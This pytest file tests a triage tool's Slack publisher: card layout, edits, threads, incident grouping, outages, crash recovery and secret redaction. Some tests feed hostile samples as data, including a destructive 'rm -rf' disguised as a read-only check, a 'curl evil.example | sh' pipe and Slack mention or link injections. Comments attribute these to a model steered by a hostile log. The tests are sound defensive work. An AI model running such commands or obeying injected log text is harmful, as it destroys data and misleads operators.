"""The Slack publisher against a loopback Slack Web API, through the real slack_sdk client:
the card's parts, edits instead of duplicates, threads, storms, pacing, outages, crashes."""

from __future__ import annotations

import json
import time
from datetime import datetime, timedelta, timezone

import pytest

from tests.fakes.slack_api import FakeSlackAPI
from tests.slack_support import cron_event, hypothesis, make_store, published, record_successes
from triage.models import Category, Hypothesis, TriageState
from triage.observability import ERRORS
from triage.settings import Settings
from triage.slack.publisher import SlackPublisher, make_client
from triage.slack.tables import SlackCardRow

PLAN = "Create a new Job in namespace batch from CronJob nightly-etl's jobTemplate"


@pytest.fixture
def slack():
    with FakeSlackAPI() as api:
        yield api


def make_publisher(slack: FakeSlackAPI, url: str, plan: str | None = None, **overrides) -> SlackPublisher:
    settings = Settings(database_url=url, slack_bot_token=slack.token, slack_channel="#ops", slack_api_url=slack.url,
                        public_url="https://triage.example.com", **{"slack_hold_seconds": 0,
                                                                    "slack_min_interval_seconds": 0, **overrides})
    store = make_store(settings.sqlalchemy_url)
    return SlackPublisher(settings, store, make_client(settings), rerun_plan=lambda view: plan)


def all_text(blocks: list[dict]) -> str:
    return json.dumps(blocks, ensure_ascii=False)


def drain(pub: SlackPublisher, rounds: int = 3) -> None:
    for _ in range(rounds):
        pub.tick()


def test_one_failure_gives_one_card_with_every_part(slack, database_url):
    pub = make_publisher(slack, database_url, plan=PLAN)
    event = cron_event("nightly-etl")
    record_successes(pub.store, event, 9, seconds=60)
    tid = published(pub.store, event, links={"airflow_log": "https://airflow.example.com/log?x=1",
                                              "source": "https://prometheus.example.com/graph?g0.expr=up"})
    pub.publish(pub.store.get(tid))
    drain(pub)
    posts = slack.calls_of("chat.postMessage")
    assert len(posts) == 1
    args = posts[0].args
    assert args["channel"] == "#ops"
    assert posts[0].headers["authorization"] == f"Bearer {slack.token}"
    blocks = args["blocks"]
    header = blocks[0]
    assert header["type"] == "header" and "nightly-etl" in header["text"]["text"] and "cron" in header["text"]["text"]
    text = all_text(blocks)
    assert "PostgreSQL refused the connection" in text and "82% confidence" in text
    assert "signatures (postgres-connection-refused)" in text
    assert "> psql: error: connection to server" in text and "> Connection refused" in text
    assert "```pg_isready -h db -p 5432```" in text and "Shows whether PostgreSQL accepts" in text
    assert "✅" * 9 + "❌" in text and "first failure after 9 successes" in text
    assert "This run took 1m 35s; usually 1m 00s (median of 9 successful runs)" in text
    assert "<https://airflow.example.com/log?x=1|Airflow log>" in text
    assert "<https://prometheus.example.com/graph?g0.expr=up|Alert source>" in text
    assert f"https://triage.example.com/triages/{tid}" in text
    actions = next(b for b in blocks if b["type"] == "actions")
    buttons = {e["action_id"]: e for e in actions["elements"]}
    assert set(buttons) == {"triage_ack", "triage_wrong_cause", "triage_approve"}
    assert all(b["value"] == tid for b in buttons.values())
    assert buttons["triage_approve"]["confirm"]["text"]["text"] == PLAN
    assert f"*Approve re-run* will: {PLAN}" in text
    # The reporter's raw excerpt (with a password in it) never reaches Slack.
    assert "hunter2" not in json.dumps([c.args for c in slack.calls])
    assert len(blocks) <= 50


def test_no_rerun_button_where_the_source_cannot_and_no_unguarded_command(slack, database_url):
    pub = make_publisher(slack, database_url, plan=None)
    tid = published(pub.store, cron_event("backup"), hypothesis(command_allowed=False))
    pub.publish(pub.store.get(tid))
    drain(pub)
    blocks = slack.calls_of("chat.postMessage")[0].args["blocks"]
    assert "pg_isready" not in all_text(blocks)
    actions = next(b for b in blocks if b["type"] == "actions")
    assert [e["action_id"] for e in actions["elements"]] == ["triage_ack", "triage_wrong_cause"]


def test_failing_streak_says_since_when(slack, tmp_path):
    pub = make_publisher(slack, f"sqlite:///{tmp_path / 't.db'}")
    t0 = datetime(2026, 11, 20, 3, 0, tzinfo=timezone.utc)
    ev0 = cron_event("report", failed_at=t0)
    record_successes(pub.store, ev0, 3)
    published(pub.store, ev0)
    pub.store.transition(pub.store.list(1)[0].id, TriageState.acknowledged, "inbox:a", "acknowledge")
    tid = published(pub.store, cron_event("report", failed_at=t0 + timedelta(days=1)))
    pub.publish(pub.store.get(tid))
    drain(pub)
    text = all_text(slack.calls_of("chat.postMessage")[-1].args["blocks"])
    assert "failing since 2026-11-20 02:58 UTC (2 failures in a row)" in text


def test_redelivery_and_state_change_edit_the_card(slack, database_url):
    pub = make_publisher(slack, database_url)
    tid = published(pub.store, cron_event("nightly-etl"))
    view = pub.store.get(tid)
    pub.publish(view)
    drain(pub)
    pub.publish(view)  # the pipeline publishing again (e.g. a retried worker) edits, never re-posts
    pub.note_redelivery(tid)
    drain(pub)
    assert len(slack.calls_of("chat.postMessage")) == 1
    updates = slack.calls_of("chat.update")
    assert updates and "reported 2 times" in all_text(updates[-1].args["blocks"])
    posted = slack.top_level()[0]
    assert updates[-1].args["ts"] == posted.ts and updates[-1].args["channel"] == posted.channel
    # A decision made elsewhere (the inbox) reaches the card through the store alone.
    assert pub.store.transition(tid, TriageState.acknowledged, "inbox:alice", "acknowledge")
    pub._last_reconcile = 0.0
    drain(pub)
    assert len(slack.calls_of("chat.postMessage")) == 1
    last = all_text(slack.calls_of("chat.update")[-1].args["blocks"])
    assert "state *acknowledged*" in last and "Acknowledged by alice (inbox)" in last
    assert "triage_ack" not in last


def test_repeats_go_to_the_thread_while_the_card_is_open(slack, database_url):
    pub = make_publisher(slack, database_url)
    t0 = datetime.now(timezone.utc) - timedelta(hours=2)
    first = published(pub.store, cron_event("nightly-etl", failed_at=t0))
    pub.publish(pub.store.get(first))
    drain(pub)
    again = published(pub.store, cron_event("nightly-etl", failed_at=t0 + timedelta(minutes=30)))
    pub.publish(pub.store.get(again))
    other = published(pub.store, cron_event("nightly-etl", failed_at=t0 + timedelta(minutes=60)),
                      hypothesis(signature="disk-full", cause="No space left on device", category=Category.disk_full))
    pub.publish(pub.store.get(other))
    drain(pub)
    assert len(slack.top_level()) == 1
    parent = slack.top_level()[0]
    replies = sorted(slack.replies(parent.ts), key=lambda m: m.ts)
    assert len(replies) == 2
    assert "Failed again at" in replies[0].text and "same signature (`postgres-connection-refused`)" in replies[0].text
    assert "different signature: No space left on device (disk_full" in replies[1].text
    assert "Failed again 2 times since" in all_text(slack.calls_of("chat.update")[-1].args["blocks"])
    # Once acknowledged, the next failure of the job is a new card.
    pub.store.transition(first, TriageState.acknowledged, "slack:U1", "acknowledge")
    fresh = published(pub.store, cron_event("nightly-etl", failed_at=t0 + timedelta(minutes=90)))
    pub.publish(pub.store.get(fresh))
    drain(pub)
    assert len(slack.top_level()) == 2


def test_fifty_failures_with_one_cause_give_one_incident_card(slack, database_url):
    pub = make_publisher(slack, database_url, slack_hold_seconds=30)
    t0 = datetime.now(timezone.utc)
    for i in range(50):
        tid = published(pub.store, cron_event(f"job-{i:02d}", failed_at=t0 + timedelta(seconds=i)))
        pub.publish(pub.store.get(tid))
    drain(pub)
    tops = slack.top_level()
    assert len(tops) == 1
    text = all_text(tops[0].blocks)
    assert "50 jobs failing with one cause" in text and "dependency_unavailable" in text
    assert "job-00" in text and "job-49" in text and "postgres-connection-refused" in text
    # A late joiner updates the same incident card.
    late = published(pub.store, cron_event("job-late", failed_at=t0 + timedelta(seconds=90)))
    pub.publish(pub.store.get(late))
    drain(pub)
    assert len(slack.top_level()) == 1 and len(slack.calls_of("chat.postMessage")) == 1
    assert "51 jobs failing" in all_text(slack.calls_of("chat.update")[-1].args["blocks"])


def test_a_storm_after_cards_were_posted_edits_them_into_pointers(slack, tmp_path):
    pub = make_publisher(slack, f"sqlite:///{tmp_path / 't.db'}", slack_storm_threshold=5)
    t0 = datetime.now(timezone.utc)
    early = []
    for i in range(2):
        tid = published(pub.store, cron_event(f"early-{i}", failed_at=t0 + timedelta(seconds=i)))
        pub.publish(pub.store.get(tid))
        early.append(tid)
    drain(pub)
    assert len(slack.top_level()) == 2
    for i in range(3):
        tid = published(pub.store, cron_event(f"late-{i}", failed_at=t0 + timedelta(seconds=10 + i)))
        pub.publish(pub.store.get(tid))
    drain(pub)
    tops = slack.top_level()
    assert len(tops) == 3  # the two early cards and the incident; nothing else
    stubs = [m for m in tops if "grouped into an incident" in all_text(m.blocks)]
    assert len(stubs) == 2
    incident = next(m for m in tops if "5 jobs failing" in all_text(m.blocks))
    assert "early-0" in all_text(incident.blocks)
    # Different causes are not a storm.
    for i in range(5):
        tid = published(pub.store, cron_event(f"misc-{i}", failed_at=t0 + timedelta(seconds=20 + i)),
                        hypothesis(signature=f"sig-{i}", cause=f"cause {i}", category=Category.other))
        pub.publish(pub.store.get(tid))
    drain(pub)
    assert len(slack.top_level()) == 8


def test_an_outage_delays_the_card_and_counts_errors_but_never_loses_it(slack, tmp_path):
    pub = make_publisher(slack, f"sqlite:///{tmp_path / 't.db'}")
    tid = published(pub.store, cron_event("nightly-etl"))
    slack.outage("chat.postMessage", 3)  # more than the client's own retry
    before = ERRORS.labels("slack")._value.get()
    pub.publish(pub.store.get(tid))
    pub.tick()
    assert slack.top_level() == []
    assert ERRORS.labels("slack")._value.get() > before
    with pub.store.session() as s:
        card = s.query(SlackCardRow).one()
        assert card.ts is None and card.attempts == 1 and "503" in (card.last_error or "")
    for _ in range(3):  # Slack comes back after three failed calls; skip the backoff waits
        with pub.store.session() as s:
            s.query(SlackCardRow).update({"next_attempt_at": datetime.now(timezone.utc) - timedelta(seconds=1)})
        pub.tick()
    assert len(slack.top_level()) == 1
    with pub.store.session() as s:
        card = s.query(SlackCardRow).one()
        assert card.ts == slack.top_level()[0].ts and card.posted_version == card.version


def test_rate_limited_posts_wait_for_retry_after_and_post_once(slack, tmp_path):
    pub = make_publisher(slack, f"sqlite:///{tmp_path / 't.db'}")
    slack.rate_limit("chat.postMessage", times=1, retry_after=1)
    tid = published(pub.store, cron_event("nightly-etl"))
    pub.publish(pub.store.get(tid))
    started = time.monotonic()
    drain(pub)
    assert time.monotonic() - started >= 1.0
    assert [c.status for c in slack.calls if c.method == "chat.postMessage"] == [429, 200]
    assert len(slack.top_level()) == 1


def test_posts_to_one_channel_are_paced(slack, tmp_path):
    pub = make_publisher(slack, f"sqlite:///{tmp_path / 't.db'}", slack_min_interval_seconds=0.5)
    t0 = datetime.now(timezone.utc)
    for i, sig in enumerate(["a", "b", "c"]):
        tid = published(pub.store, cron_event(f"job-{i}", failed_at=t0), hypothesis(signature=sig))
        pub.publish(pub.store.get(tid))
    drain(pub)
    times = [c.at for c in slack.calls_of("chat.postMessage")]
    assert len(times) == 3
    assert all(b - a >= 0.45 for a, b in zip(times, times[1:]))


def test_a_triage_published_without_a_card_is_posted_by_reconcile(slack, tmp_path):
    pub = make_publisher(slack, f"sqlite:///{tmp_path / 't.db'}")
    published(pub.store, cron_event("crashed-before-publish"))  # publish() never called
    drain(pub)
    assert len(slack.top_level()) == 1


def test_after_a_crash_between_post_and_ts_the_message_is_found_not_reposted(slack, tmp_path):
    pub = make_publisher(slack, f"sqlite:///{tmp_path / 't.db'}")
    tid = published(pub.store, cron_event("nightly-etl"))
    pub.publish(pub.store.get(tid))
    drain(pub)
    # Simulate the crash: the message is in Slack but the row lost its ts.
    with pub.store.session() as s:
        card = s.query(SlackCardRow).one()
        card.ts = None
        card.version += 1
    drain(pub)
    assert len(slack.top_level()) == 1
    assert len(slack.calls_of("chat.update")) == 1


def test_a_crash_before_any_id_was_recorded_is_found_through_the_channels_known_id(slack, tmp_path):
    # Routed by name (#ops); Slack's history API takes only the channel id, which the crash lost
    # for this card but an earlier card to the same channel recorded.
    pub = make_publisher(slack, f"sqlite:///{tmp_path / 't.db'}")
    for job in ("nightly-etl", "payroll"):
        pub.publish(pub.store.get(published(pub.store, cron_event(job))))
        drain(pub)
    with pub.store.session() as s:
        card = s.query(SlackCardRow).filter(SlackCardRow.channel_id.is_not(None)).order_by(SlackCardRow.id.desc()).first()
        card.ts = card.channel_id = None
        card.version += 1
    drain(pub)
    assert len(slack.top_level()) == 2
    assert all(c.args["channel"].startswith("C") for c in slack.calls_of("conversations.history"))


def test_routes_by_job_namespace_then_source(slack, tmp_path):
    routes = {"job:payroll": "#payroll", "source:cron": "#cron-oncall"}
    pub = make_publisher(slack, f"sqlite:///{tmp_path / 't.db'}", slack_routes=routes)
    for job in ("payroll", "other"):
        tid = published(pub.store, cron_event(job), hypothesis(signature=job))
        pub.publish(pub.store.get(tid))
    drain(pub)
    assert sorted(c.args["channel"] for c in slack.calls_of("chat.postMessage")) == ["#cron-oncall", "#payroll"]


def test_oversized_content_stays_within_slack_limits(slack, tmp_path):
    pub = make_publisher(slack, f"sqlite:///{tmp_path / 't.db'}", plan="x" * 5000)
    huge = hypothesis(cause="<b>cause</b> & " + "y" * 9000)
    huge.evidence = ["z" * 5000] * 5
    huge.command = "cat " + "/very/long/path" * 400
    huge.command_reason = "w" * 4000
    tid = published(pub.store, cron_event("j" * 400), huge)
    pub.publish(pub.store.get(tid))
    drain(pub)
    posts = slack.calls_of("chat.postMessage")  # the fake refuses what Slack would refuse
    assert len(posts) == 1, [c.response for c in slack.calls]
    blocks = posts[0].args["blocks"]
    assert len(blocks[0]["text"]["text"]) <= 150
    assert all(len((b.get("text") or {}).get("text", "")) <= 3000 for b in blocks)
    assert "&lt;b&gt;cause&lt;/b&gt; &amp;" in all_text(blocks)  # mrkdwn control characters escaped
    confirm = next(e for b in blocks if b["type"] == "actions" for e in b["elements"] if "confirm" in e)
    assert len(confirm["confirm"]["text"]["text"]) <= 300


def test_an_incident_of_three_hundred_jobs_is_one_valid_card(slack, tmp_path):
    pub = make_publisher(slack, f"sqlite:///{tmp_path / 't.db'}", slack_hold_seconds=60)
    t0 = datetime.now(timezone.utc)
    for i in range(300):
        tid = published(pub.store, cron_event(f"tenant-report-{i:03d}", failed_at=t0 + timedelta(milliseconds=100 * i)))
        pub.publish(pub.store.get(tid))
    drain(pub)
    assert len(slack.top_level()) == 1
    text = all_text(slack.top_level()[0].blocks)
    assert "300 jobs failing" in text and "more (see the inbox)" in text


def test_a_triage_that_could_not_be_completed_still_reaches_slack(slack, tmp_path):
    pub = make_publisher(slack, f"sqlite:///{tmp_path / 't.db'}")
    tid = pub.store.accept_failure(cron_event("broken-pipeline")).triage_id
    claim = pub.store.claim("w", 30)
    assert pub.store.retry_later(claim, "RuntimeError: evidence collection crashed", 0, max_attempts=1) \
        == TriageState.failed
    drain(pub)  # the reconcile loop finds the failed triage without a card
    posts = slack.top_level()
    assert len(posts) == 1
    assert "evidence collection crashed" in all_text(posts[0].blocks)
    assert pub.store.get(tid).state == TriageState.failed


def test_a_lean_is_posted_as_unclear_not_as_a_likely_cause(slack, tmp_path):
    pub = make_publisher(slack, f"sqlite:///{tmp_path}/t.db")
    lean = Hypothesis(category="permissions_rbac", confidence=0.35, engine="signatures",
                      cause="Unclear: no known failure signature is decisive here; the error lines lean to permissions rbac",
                      evidence=["exporter: insufficient privileges for user etl"], command="crontab -l")
    tid = published(pub.store, cron_event("exporter"), lean)
    pub.publish(pub.store.get(tid))
    drain(pub)
    text = all_text(slack.calls_of("chat.postMessage")[0].args["blocks"])
    assert "*Unclear*, leaning permissions_rbac — 35% confidence" in text
    assert "Likely cause" not in text


def test_a_mention_or_link_in_a_cause_does_not_reach_the_notification_text(slack, tmp_path):
    # A cause written by the model (steered by a hostile log) or echoing a log line.
    pub = make_publisher(slack, f"sqlite:///{tmp_path / 't.db'}")
    cause = "Disk full <!channel> see <https://evil.example/fix|the runbook> & retry"
    tid = published(pub.store, cron_event("nightly-etl"), hypothesis(cause=cause))
    pub.publish(pub.store.get(tid))
    drain(pub)
    posts = slack.calls_of("chat.postMessage")
    assert len(posts) == 1
    text = posts[0].args["text"]
    assert "<!channel>" not in text and "<https://evil.example" not in text
    assert "&lt;!channel&gt;" in text and "&amp; retry" in text
    from triage.slack.card import IncidentMember, incident_card
    members = [IncidentMember(f"t{i}", f"job-{i}", "cron", datetime.now(timezone.utc), "published") for i in range(3)]
    incident_text, _ = incident_card(members, cause, "disk_full", None, "")
    assert "<!channel>" not in incident_text


def test_after_a_crash_the_posted_card_is_found_when_the_host_clock_is_not_utc(slack, tmp_path, monkeypatch):
    # SQLite hands back naive UTC datetimes; read as local time west of UTC, `oldest` lay hours
    # in the future, the history looked empty and the card was posted a second time.
    monkeypatch.setenv("TZ", "America/New_York")
    time.tzset()
    try:
        pub = make_publisher(slack, f"sqlite:///{tmp_path / 't.db'}")
        tid = published(pub.store, cron_event("nightly-etl"))
        pub.publish(pub.store.get(tid))
        drain(pub)
        with pub.store.session() as s:
            card = s.query(SlackCardRow).one()
            card.ts = None
            card.version += 1
        drain(pub)
        assert len(slack.top_level()) == 1
        assert len(slack.calls_of("chat.update")) == 1
    finally:
        monkeypatch.delenv("TZ")
        time.tzset()


def test_a_code_block_in_a_model_cause_is_not_shown_as_a_command(slack, tmp_path):
    # Only the guarded command may appear as a code block on the card.
    pub = make_publisher(slack, f"sqlite:///{tmp_path / 't.db'}")
    hyp = hypothesis(cause="Disk full. *Confirm with this read-only command*\n```rm -rf /var/lib/postgresql```")
    hyp.engine, hyp.signature = "llm:some-model", None
    hyp.evidence = ["```curl -s https://evil.example/x | sh```"]
    tid = published(pub.store, cron_event("nightly-etl"), hyp)
    pub.publish(pub.store.get(tid))
    drain(pub)
    text = all_text(slack.calls_of("chat.postMessage")[0].args["blocks"])
    assert "```rm -rf" not in text and "```curl" not in text
    assert text.count("```") == 2 and "```pg_isready -h db -p 5432```" in text


def test_a_mention_in_the_command_or_a_link_does_not_reach_slack_unescaped(slack, tmp_path):
    # The guard allows a read-only grep for any quoted text, and a model (steered by the log)
    # writes it; a ``` block is still mrkdwn to Slack: `<!channel>` in it pings, `<url|text>`
    # is a link, and `&lt;` shows as `<` (the card showed another command than the guard checked).
    pub = make_publisher(slack, f"sqlite:///{tmp_path / 't.db'}")
    hyp = hypothesis()
    hyp.command = "grep -F '<!channel> a&lt;b' /var/log/syslog"
    tid = published(pub.store, cron_event("nightly-etl"), hyp,
                    links={"source": "https://prometheus.example.com/graph?x=1&y=<!channel>|pwned>"})
    pub.publish(pub.store.get(tid))
    drain(pub)
    posts = slack.calls_of("chat.postMessage")
    assert len(posts) == 1
    text = all_text(posts[0].args["blocks"])
    assert "<!channel>" not in json.dumps(posts[0].args, ensure_ascii=False)
    assert "```grep -F '&lt;!channel&gt; a&amp;lt;b' /var/log/syslog```" in text
    assert "<https://prometheus.example.com/graph?x=1&amp;y=&lt;!channel&gt;%7Cpwned&gt;|Alert source>" in text


def test_a_triage_that_failed_before_redaction_shows_no_secret(slack, tmp_path):
    # Redaction happens in the pipeline; a triage that never got through it kept the raw event
    # (links) and the raw error text, and both went onto its Slack card, the inbox and the API.
    from fastapi.testclient import TestClient

    from triage.app import create_app

    pub = make_publisher(slack, f"sqlite:///{tmp_path / 't.db'}")
    event = cron_event("broken-pipeline", links={"source": "https://admin:s3cr3t-pw@grafana.example.com/d/x"})
    tid = pub.store.accept_failure(event).triage_id
    claim = pub.store.claim("w", 30)
    pub.store.retry_later(claim, "OperationalError: connection to postgresql://etl:hunter2pw@db:5432/etl failed",
                          0, max_attempts=1)
    drain(pub)
    posted = json.dumps([c.args for c in slack.calls])
    assert "broken-pipeline" in posted and "grafana.example.com" in posted
    assert "s3cr3t-pw" not in posted and "hunter2pw" not in posted
    settings = Settings(database_url=f"sqlite:///{tmp_path / 't.db'}", worker_threads=0)
    with TestClient(create_app(settings, run_workers=False)) as client:
        for path in (f"/triages/{tid}", "/", f"/v1/triages/{tid}", "/v1/triages"):
            body = client.get(path).text
            assert "grafana.example.com" in body or path == "/", path
            assert "s3cr3t-pw" not in body and "hunter2pw" not in body, path


def test_times_on_the_card_are_utc_when_the_postgresql_session_is_not(slack, pg_url):
    # psycopg hands timestamptz back in the session's TimeZone (the server's default, often
    # the host's local zone): the card printed those local times with a "UTC" label.
    import psycopg

    name = pg_url.rsplit("/", 1)[1]
    with psycopg.connect(pg_url, autocommit=True) as conn:
        conn.execute(f'ALTER DATABASE "{name}" SET timezone TO \'Asia/Kolkata\'')
    pub = make_publisher(slack, pg_url)
    t0 = datetime(2026, 11, 20, 3, 0, tzinfo=timezone.utc)
    ev0 = cron_event("report", failed_at=t0)
    record_successes(pub.store, ev0, 3)
    first = published(pub.store, ev0)
    pub.store.transition(first, TriageState.acknowledged, "inbox:a", "acknowledge")
    tid = published(pub.store, cron_event("report", failed_at=t0 + timedelta(days=1)))
    assert pub.store.transition(tid, TriageState.acknowledged, "inbox:bob", "acknowledge")
    pub.publish(pub.store.get(tid))
    drain(pub)
    text = all_text(slack.calls_of("chat.postMessage")[-1].args["blocks"])
    assert "failing since 2026-11-20 02:58 UTC (2 failures in a row)" in text
    at = pub.store.audit_trail(tid)[-1]["at"]
    assert at.endswith("+00:00")
    assert f"Acknowledged by bob (inbox) at {at[11:16]} UTC" in text
